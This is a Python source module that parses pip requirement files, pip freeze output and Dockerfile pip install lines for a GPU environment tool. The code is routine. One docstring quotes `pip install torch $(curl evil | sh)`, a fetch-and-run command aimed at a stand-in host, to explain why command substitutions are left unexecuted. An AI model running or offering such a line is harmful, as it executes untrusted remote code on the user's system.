"""pip requirement files and ``pip freeze`` output, and the requirement parsing every
other reader shares (conda's ``pip:`` sections, Dockerfile ``pip install`` lines, cog's
``python_packages``).

Requirements are parsed by ``packaging``; pip's own file syntax around them is handled
here: ``-r``/``-c`` includes (read once, relative to the including file), ``-f``,
``--index-url``, ``--extra-index-url`` (a PyTorch index names the torch build),
``--pre``, ``-e``, ``--hash`` (dropped: the lock pins its own), comments, line
continuations, markers, direct URLs and ``git+...@ref`` references.
"""

from __future__ import annotations

import os
import re
import shlex
from dataclasses import replace
from pathlib import Path
from urllib.parse import unquote, urlsplit

from packaging.requirements import InvalidRequirement, Requirement
from packaging.utils import canonicalize_name
from packaging.version import InvalidVersion, Version

from gpuenv.importers._context import Context
from gpuenv.importers._text import fail, line_not_read
from gpuenv.importers.local_paths import is_the_project, read_local_path
from gpuenv.importers.model import (
    DROPPED,
    INDEX,
    PRE,
    PYTHON,
    TORCH_BUILD,
    UNMANAGED,
    UNREADABLE,
    Ask,
    Authority,
    Origin,
    ReadingBuilder,
)

_VCS = ("git+", "hg+", "svn+", "bzr+")
_TORCH_INDEX = re.compile(r"download\.pytorch\.org/whl/(?:(nightly)/)?(cu\d{2,4}|cpu|rocm[\d.]+)?")
_WHEEL = re.compile(r"^(?P<name>[^-]+)-(?P<version>[^-]+)(-\d[^-]*)?-[^-]+-[^-]+-[^-]+\.whl$")
_SDIST = re.compile(r"^(?P<name>.+?)-(?P<version>\d[^-]*)\.(tar\.gz|zip|tar\.bz2)$")
_EGG = re.compile(r"[#&]egg=([A-Za-z0-9._-]+)")
# Where a package index keeps its own files: the default index's hash-addressed
# ``/packages/ab/cd/<60 hex>/<file>`` and its older ``/packages/<py>/<letter>/<name>/<file>``
# (on its file host or a mirror of it), and PyTorch's index (``_TORCH_INDEX``).
_INDEX_FILE = re.compile(
    r"/packages/(?:[0-9a-f]{2}/[0-9a-f]{2}/[0-9a-f]{60}|[\w.]+/\w/[^/]+)/[^/]+"
)
_FREEZE_LINE = re.compile(
    r"^([A-Za-z0-9][A-Za-z0-9._-]*(\[[^\]]*\])?==\S+|[A-Za-z0-9][A-Za-z0-9._-]* @ \S+|-e \S+)$"
)
_VALUE_OPTIONS = {
    "-r": "requirement",
    "--requirement": "requirement",
    "-c": "constraint",
    "--constraint": "constraint",
    "-f": "find-links",
    "--find-links": "find-links",
    "-i": "index-url",
    "--index-url": "index-url",
    "--extra-index-url": "extra-index-url",
    "-e": "editable",
    "--editable": "editable",
}
_IGNORED_OPTIONS = (
    "--trusted-host",
    "--no-binary",
    "--only-binary",
    "--prefer-binary",
    "--use-feature",
    "--no-index",
    "--require-hashes",
    "--config-settings",
    "--global-option",
)


def build_of(version: str) -> str | None:
    """The torch-style build a local version label names: ``1.10.0+cu111`` -> cu111."""
    try:
        local = Version(version).local
    except InvalidVersion:
        return None
    if local and re.fullmatch(r"cu\d{2,3}|cpu|rocm[\d.]+", local):
        return local
    return None


def _split_local(specifier: str) -> tuple[str, str | None]:
    """``==1.10.0+cu111`` -> (``==1.10.0``, ``cu111``)."""
    match = re.fullmatch(r"(===?)\s*([^,;\s]+)", specifier.strip())
    if not match or "+" not in match.group(2):
        return specifier, None
    build = build_of(match.group(2))
    if build is None:
        return specifier, None
    return f"{match.group(1)}{match.group(2).split('+', 1)[0]}", build


def _is_pre(specifier: str) -> bool:
    for part in re.findall(r"[<>=!~]=?\s*([^,\s]+)", specifier):
        try:
            if Version(part.rstrip(".*")).is_prerelease:
                return True
        except InvalidVersion:
            continue
    return False


def git_repository(url: str) -> str:
    """``host/owner/name`` of a repository URL, its ``@ref``, ``.git`` and fragment
    dropped (``git+https://github.com/pytorch/vision.git@v0.15.2``:
    ``github.com/pytorch/vision``). Raises ``ValueError`` for one that does not parse
    ("Invalid IPv6 URL")."""
    parts = urlsplit(url.split("+", 1)[1] if url.startswith(_VCS) else url)
    path = parts.path.strip("/").split("@", 1)[0].removesuffix(".git")
    return f"{(parts.hostname or '').lower()}/{path}"


_SUBDIRECTORY = re.compile(r"[#&]subdirectory=([^&#\s]+)")


def vcs_subdirectory(url: str) -> str | None:
    """The folder of the repository a VCS URL's ``#subdirectory=`` names, or None."""
    found = _SUBDIRECTORY.search(url)
    return unquote(found.group(1)).strip("/") if found else None


def _vcs_ask(text: str, origin: Origin, *, editable: bool) -> Ask:
    egg = _EGG.search(text)
    try:
        repository = git_repository(text)
    except ValueError as exc:
        fail(origin.file, origin.line, f"not a URL: {text!r} ({exc})")
    # named after the repository (tiny-cuda-nn of git+https://host/o/tiny-cuda-nn.git@b34)
    name = egg.group(1) if egg else repository.rsplit("/", 1)[-1]
    return Ask(canonicalize_name(name), "", origin, url=text, editable=editable)


def _file_ask(text: str, origin: Origin) -> Ask | None:
    """A wheel or sdist URL whose file name shows its project and version."""
    try:
        filename = unquote(urlsplit(text).path.rsplit("/", 1)[-1])
    except ValueError:  # "Invalid IPv6 URL": not a file this can name
        return None
    match = _WHEEL.match(filename) or _SDIST.match(filename)
    if not match:
        return None
    version = match.group("version")
    try:
        Version(version)
    except InvalidVersion:
        return None
    spec, build = _split_local(f"=={version}")
    folder = _TORCH_INDEX.search(text)
    if build is None and folder is not None and folder.group(2):
        # PyTorch's index names the build by folder, not in every file's name:
        # vid2vid's .../whl/cu80/torch-0.4.0-cp35-cp35m-linux_x86_64.whl is cu80
        build = folder.group(2)
    return Ask(canonicalize_name(match.group("name")), spec, origin, build=build, url=text)


_CPYTHON_TAG = re.compile(r"cp3(\d{1,2})")


def wheel_python(url: str) -> str | None:
    """The one CPython a wheel URL's tag allows (``cp35`` -> "3.5"), or None (``py3``,
    ``abi3``, several tags, not a wheel)."""
    try:
        filename = unquote(urlsplit(url).path.rsplit("/", 1)[-1])
    except ValueError:
        return None
    if not _WHEEL.match(filename):
        return None
    python_tag, abi_tag = filename[: -len(".whl")].split("-")[-3:-1]
    tag = _CPYTHON_TAG.fullmatch(python_tag)
    if tag is None or abi_tag == "abi3":
        return None
    return f"3.{tag.group(1)}"


def index_file(url: str) -> bool:
    """``url`` is a file of a package index, so the index's project of the name it
    gives is the same project. A file anywhere else (a private host, a release page)
    may be a private build whose name the index gives to another project:
    ``utils @ https://internal.example.com/packages/utils-1.0.2.tar.gz`` became the
    index's unrelated ``utils==1.0.2``."""
    try:
        parts = urlsplit(url)
    except ValueError:  # "Invalid IPv6 URL"
        return False
    where = f"{(parts.hostname or '').lower()}{parts.path}"
    return bool(_INDEX_FILE.fullmatch(parts.path) or _TORCH_INDEX.match(where))


def _reference_ask(text: str, origin: Origin, *, editable: bool) -> Ask | str:
    """A bare VCS reference or file URL on a requirement line."""
    if text.startswith(_VCS):
        ask = _vcs_ask(text, origin, editable=editable)
        if not re.fullmatch(r"[a-z0-9]([a-z0-9._-]*[a-z0-9])?", ask.name):
            fail(origin.file, origin.line, f"no package name in {text!r}")
        return ask
    found = _file_ask(text, origin)
    return found if found is not None else f"{text}: a URL that names no package version"


def ask_from(text: str, origin: Origin, *, editable: bool = False) -> Ask | str:
    """One requirement as an ``Ask``; a str says why it is not one (a local path: the
    project itself, or another checkout). Malformed text is a ``ForeignFileError``."""
    text = text.strip()
    if text.startswith(_VCS) or re.match(r"^(https?|file)://", text):
        return _reference_ask(text, origin, editable=editable)
    # `.[vision]` too: pip reads a word that is `.` with extras as the folder
    if text in (".", "..") or text.startswith(("./", "../", "/", "~", ".[")) or editable:
        if is_the_project(text):
            return f"{text}: a local path (the project itself)"
        return f"{text}: a local path (the project itself, or a checkout beside it)"
    try:
        requirement = Requirement(text)
    except InvalidRequirement as exc:
        fail(origin.file, origin.line, f"not a requirement: {text!r} ({exc})")
    specifier, build = _split_local(str(requirement.specifier))
    if requirement.url:
        found = _file_ask(requirement.url, origin)
        if found is not None:
            return replace(found, name=canonicalize_name(requirement.name))
        if requirement.url.startswith(_VCS):
            ask = _vcs_ask(requirement.url, origin, editable=editable)
            return replace(ask, name=canonicalize_name(requirement.name))
    return Ask(
        name=canonicalize_name(requirement.name),
        specifier=specifier,
        origin=origin,
        build=build,
        url=requirement.url,
        extras=tuple(sorted(requirement.extras)),
        marker=str(requirement.marker) if requirement.marker else None,
        pre=_is_pre(specifier),
    )


def index_facts(builder: ReadingBuilder, url: str, origin: Origin, option: str = "index") -> None:
    """An index or find-links URL (``option`` says which); PyTorch's per-build indexes
    name the torch build."""
    builder.fact(INDEX, url, origin, option)
    match = _TORCH_INDEX.search(url)
    if match is None:
        return
    if match.group(1):
        builder.fact(PRE, "nightly", origin, "PyTorch's nightly index")
    if match.group(2):
        builder.fact(TORCH_BUILD, match.group(2), origin, "PyTorch's per-build index")


def _logical_lines(text: str) -> list[tuple[int, str]]:
    """Lines with continuations joined and comments removed, each with its first line."""
    out: list[tuple[int, str]] = []
    pending: list[str] = []
    start = 0
    for number, raw in enumerate(text.splitlines(), 1):
        if not pending:
            start = number
        if raw.endswith("\\"):
            pending.append(raw[:-1])
            continue
        pending.append(raw)
        line = " ".join(pending)
        pending = []
        line = re.sub(r"(^|\s)#.*$", "", line).strip()
        if line:
            out.append((start, line))
    if pending:
        line = re.sub(r"(^|\s)#.*$", "", " ".join(pending)).strip()
        if line:
            out.append((start, line))
    return out


def _split_option(line: str) -> tuple[str, str] | None:
    """``-r file`` / ``--index-url=URL`` -> (option, value) for options taking a value."""
    for option in sorted(_VALUE_OPTIONS, key=len, reverse=True):
        for separator in ("=", " "):
            if line.startswith(option + separator):
                return option, line[len(option) + 1 :].strip()
        if option.startswith("-") and not option.startswith("--") and line.startswith(option):
            rest = line[len(option) :].strip()
            if rest and not rest.startswith("-"):
                return option, rest
    return None


class PipLines:
    """Feeds pip lines (a file's, or a ``pip:`` section's) into a reading."""

    def __init__(self, ctx: Context, builder: ReadingBuilder, base: Path) -> None:
        self.ctx = ctx
        self.builder = builder
        self.base = base
        self.hash_noted = False

    def option(self, option: str, value: str, origin: Origin) -> None:
        kind = _VALUE_OPTIONS[option]
        if kind in ("requirement", "constraint"):
            path = Path(os.path.normpath(self.base / value))
            group = "constraints" if kind == "constraint" else None
            self.ctx.include(
                path, "constraints" if group else "requirements", by=origin.file, line=origin.line
            )
        elif kind == "editable":
            self.requirement(value, origin, editable=True)
        else:
            index_facts(self.builder, value, origin, kind)

    def requirement(self, text: str, origin: Origin, *, editable: bool = False) -> None:
        if "--hash" in text:
            text = re.sub(r"\s--hash[=\s]\S+", "", text).strip()
            if not self.hash_noted:
                self.builder.note(DROPPED, "--hash pins dropped: the lock records its own", origin)
                self.hash_noted = True
        if SUBSTITUTION in text:
            self.builder.note(UNREADABLE, f"{text}: a command's output, not run here", origin)
            return
        if "$" in text:
            self.builder.note(UNREADABLE, f"{text}: environment variables are not expanded", origin)
            return
        if read_local_path(self.ctx, self.builder, text.strip(), origin, editable=editable):
            return
        found = ask_from(text, origin, editable=editable)
        if isinstance(found, str):
            self.builder.note(UNMANAGED, found, origin)
            return
        python = wheel_python(found.url) if found.url else None
        if python is not None:
            # the wheel installs on that Python only: the paper's environment ran it
            self.builder.fact(PYTHON, python, origin, f"the wheel's cp3{python[2:]} tag")
        if found.url and text.strip().startswith(_VCS) and not _EGG.search(text):
            # Named after its repository: pytorch/vision is torchvision, not "vision"; a
            # folder of it after what that folder builds (flash-attention's csrc/rotary
            # is rotary_emb: named flash-attn, it was merged into flash-attn and lost).
            project = self.ctx.knowledge.repository_project(
                git_repository(found.url), vcs_subdirectory(found.url)
            )
            if project is not None:
                found = replace(found, name=project)
        self.builder.asks.append(found)

    def line(self, number: int | None, line: str) -> None:
        origin = Origin(self.builder.file, number, line)
        with line_not_read(self.builder, origin):
            self._line(number, line, origin)

    def _line(self, number: int | None, line: str, origin: Origin) -> None:
        if not line.startswith("-"):
            requirement, options = _requirement_options(line)
            if options:
                # pip parses options after a requirement on the same line: the
                # per-requirement ones (--hash, --config-settings) and global ones such as
                # --index-url, which then apply to the whole install.
                hashes = [o for o in options if o.startswith("--hash")]
                self.requirement(" ".join([requirement, *hashes]), origin)
                for option in options:
                    if not option.startswith("--hash"):
                        self._line(number, option, origin)
                return
        if line.startswith("-"):
            if line == "--pre":
                self.builder.fact(PRE, "pre", origin, "pip --pre")
                return
            split = _split_option(line)
            if split is not None:
                self.option(split[0], split[1], origin)
                return
            if line.startswith(_IGNORED_OPTIONS):
                self.builder.note(DROPPED, f"option not carried over: {line}", origin)
                return
            fail(origin.file, number, f"unknown pip option: {line.split(maxsplit=1)[0]}")
        self.requirement(line, origin)

    def args(self, tokens: list[str], origin: Origin) -> None:
        """The arguments of a ``pip install`` command line (a Dockerfile's RUN)."""
        words = [t for t in tokens if not t.startswith("-")]
        if words and all(canonicalize_name(w) in INSTALLER_TOOLS for w in words):
            # `pip install --upgrade pip wheel setuptools`: the installer's own tools, not
            # the project's needs (they were written as its dependencies, unpinned).
            self.builder.note(
                DROPPED,
                f"{' '.join(words)}: the installer's own tools, not carried over (uv "
                "installs without them; a build names what it needs in build-requires)",
                origin,
            )
            return
        i = 0
        while i < len(tokens):
            word = tokens[i]
            if word in _VALUE_OPTIONS and i + 1 < len(tokens):
                self.option(word, tokens[i + 1], origin)
                i += 2
                continue
            if word in ("--pre",):
                self.builder.fact(PRE, "pre", origin, "pip --pre")
            elif "=" in word and word.split("=", 1)[0] in _VALUE_OPTIONS:
                option, value = word.split("=", 1)
                self.option(option, value, origin)
            elif word.startswith("-"):
                i += skip_option(word, tokens, i)
                continue
            else:
                # One requirement not understood is noted, not the rest of the command:
                # a nameless git URL dropped every `&& pip install` after it in a RUN.
                before = len(self.builder.asks)
                with line_not_read(self.builder, origin):
                    self.requirement(word, origin)
                if "--no-deps" in tokens:
                    for ask in self.builder.asks[before:]:
                        self.builder.note(UNMANAGED, _no_deps_why(ask), origin)
            i += 1


def _no_deps_why(ask: Ask) -> str:
    """Time-Series-Library's Dockerfile and README: ``pip install uni2ts --no-deps`` (its
    pins clash with the project's). A spec requirement has no such option: the lock
    resolves the package's dependencies as well, and the report says the paper did not."""
    return (
        f"{ask.name}: installed with --no-deps, without its dependencies; the spec cannot "
        "say so, and `gpuenv lock` resolves them too: where they conflict, remove it from "
        f"[pip] and, after `gpuenv install`, run `gpuenv run -- pip install --no-deps "
        f"'{ask.requirement_text()}'`"
    )


# pip's general options that take a value (`pip --cache-dir /c install ...`)
_GLOBAL_VALUES = frozenset(
    {"--cache-dir", "--log", "--proxy", "--retries", "--timeout", "--trusted-host", "--cert",
     "--client-cert", "--exists-action", "--python", "--log-file", "--root-user-action"}
)  # fmt: skip


def after_global_options(words: list[str]) -> list[str]:
    """``words`` after pip's general options (``pip3 --no-cache-dir install x``: the
    command was read as no install at all, and dropped without a note)."""
    i = 0
    while i < len(words) and words[i].startswith("-"):
        i += 2 if words[i] in _GLOBAL_VALUES and "=" not in words[i] else 1
    return words[i:]


INSTALLER_TOOLS = frozenset({"pip", "setuptools", "wheel", "uv"})


_OPTIONS_WITH_VALUE = {
    "-t", "--target", "--prefix", "--root", "--src", "--upgrade-strategy", "--config-settings",
    "--global-option", "--install-option", "--platform", "--python-version", "--only-binary",
    "--no-binary", "--cache-dir", "--progress-bar", "--timeout", "--retries", "--trusted-host",
    "--implementation", "--abi", "--log", "--proxy", "--root-user-action",
}  # fmt: skip


def skip_option(token: str, tokens: list[str], i: int) -> int:
    """How many tokens an option takes (itself, and maybe a value)."""
    takes_value = token in _OPTIONS_WITH_VALUE or token in _VALUE_OPTIONS
    if takes_value and "=" not in token and i + 1 < len(tokens):
        return 2
    return 1


# A whole environment's ``pip freeze`` lists dozens of packages (their dependencies too);
# a short file of ``==`` pins is a hand-written requirements file.
FREEZE_MIN_ENTRIES = 15


def looks_like_freeze(text: str, name: str = "") -> bool:
    """Every line a pinned requirement as ``pip freeze`` writes them (comments aside),
    and either the file's name says freeze or it lists a whole environment."""
    lines = [line.strip() for line in text.splitlines()]
    entries = [line for line in lines if line and not line.startswith("#")]
    named = any(word in name.lower() for word in ("freeze", "frozen"))
    return (
        (named or len(entries) >= FREEZE_MIN_ENTRIES)
        and bool(entries)
        and all(_FREEZE_LINE.match(line) for line in entries)
        and any("==" in line for line in entries)
    )


def read(ctx: Context, path: Path, text: str, fmt: str) -> None:
    """A requirements file (``fmt`` "requirements", "constraints") or ``pip freeze``."""
    display = ctx.display(path)
    authority = Authority.RECORD if fmt == "pip-freeze" else Authority.DEFINITION
    builder = ReadingBuilder(display, fmt, authority)
    feeder = PipLines(ctx, builder, path.parent)
    for number, line in _logical_lines(text):
        feeder.line(number, line)
    if fmt == "constraints":
        builder.asks = [replace(a, group="constraints") for a in builder.asks]
    ctx.readings.append(builder.build())


def _requirement_options(line: str) -> tuple[str, list[str]]:
    """``torch==2.2.2 --index-url URL --hash=sha256:x`` -> (``torch==2.2.2``, [the
    options, each with its value]); no options: (line, [])."""
    parts = re.split(r"\s+(?=--?[A-Za-z])", line)
    if len(parts) == 1:
        return line, []
    return parts[0], parts[1:]


def shell_tokens(text: str, origin: Origin) -> list[str]:
    try:
        return shlex.split(text, comments=True, posix=True)
    except ValueError as exc:
        fail(origin.file, origin.line, f"cannot split the command line: {exc}")


_OPERATORS = frozenset({";", "&&", "||", "|", "&", ";;", "|&"})


SUBSTITUTION = "$(…)"  # a command substitution's place: its output is unknown here


def _substitutions_unread(text: str) -> str:
    """``text`` with each command substitution (``$(...)``, nested, or backquotes)
    outside single quotes replaced by ``SUBSTITUTION``: what it prints is not known
    without running it, and its own words are no arguments of the command around it
    (``pip install torch $(curl evil | sh)`` installed a package named ``evil``)."""
    if "$(" not in text and "`" not in text:
        return text
    out: list[str] = []
    i, quoted = 0, False
    while i < len(text):
        char = text[i]
        if char == "'" and not quoted:
            end = text.find("'", i + 1)
            if end == -1:
                out.append(text[i:])
                break
            out.append(text[i : end + 1])
            i = end + 1
            continue
        if char == '"':
            quoted = not quoted
        if text.startswith("$(", i) and not text.startswith("$((", i):
            depth, j = 1, i + 2
            while j < len(text) and depth:
                depth += {"(": 1, ")": -1}.get(text[j], 0)
                j += 1
            out.append(SUBSTITUTION)
            i = j
            continue
        if char == "`":
            end = text.find("`", i + 1)
            out.append(SUBSTITUTION)
            i = len(text) if end == -1 else end + 1
            continue
        out.append(char)
        i += 1
    return "".join(out)


_WORD_BREAKS = frozenset(" \t\n;&|()<>")


def _without_comment(text: str) -> str:
    """``text`` up to its comment, as the shell reads it: from an unquoted, unescaped
    ``#`` that begins a word (detectron2's Dockerfile: ``RUN pip install --user
    tensorboard cmake onnx   # cmake from apt-get is too old`` installed "from", "is",
    "too", ...). A ``#`` inside a word (``...#egg=x``, ``$#``) or quotes is no comment."""
    quote, word_start, i = "", True, 0
    while i < len(text):
        char = text[i]
        if quote:
            if char == quote:
                quote = ""
            elif char == "\\" and quote == '"':
                i += 1
        elif char == "#" and word_start:
            return text[:i]
        elif char == "\\":
            i += 1
        elif char in "'\"":
            quote = char
        word_start = not quote and char in _WORD_BREAKS
        i += 1
    return text


def shell_commands(text: str, origin: Origin) -> list[list[str]]:
    """The simple commands of a shell line (split at ``;``, ``&&``, ``||``, ``|``
    outside quotes), each as its words; quotes nest as the shell's do
    (``A="$(echo "$B" | tr ';' ' ')"`` is one word)."""
    uncommented = _without_comment(_substitutions_unread(text))
    lexer = shlex.shlex(uncommented, posix=True, punctuation_chars=";&|")
    lexer.whitespace_split = True
    lexer.commenters = ""  # shlex's would also end ``git+https://...#egg=x`` mid-word
    commands: list[list[str]] = [[]]
    try:
        for token in lexer:
            if token in _OPERATORS:
                commands.append([])
            else:
                commands[-1].append(token)
    except ValueError as exc:
        fail(origin.file, origin.line, f"cannot split the shell line: {exc}")
    return [c for c in map(_without_keywords, commands) if c]


# Reserved words that may stand before a simple command (``if [ "$X" ]; then pip install
# flash-attn==2.7.2; fi``, ``for p in a b; do pip install $p; done``, ``! cmd``): the
# command is what follows them. A word alone that closes a compound (``fi``, ``done``)
# is no command anyone reads.
_BEFORE_A_COMMAND = frozenset({"if", "then", "else", "elif", "do", "while", "until", "!", "{"})
_CLOSING = frozenset({"fi", "done", "}", "esac"})


def _without_keywords(command: list[str]) -> list[str]:
    start = 0
    while start < len(command) and command[start] in _BEFORE_A_COMMAND:
        start += 1
    rest = command[start:]
    return [] if len(rest) == 1 and rest[0] in _CLOSING else rest
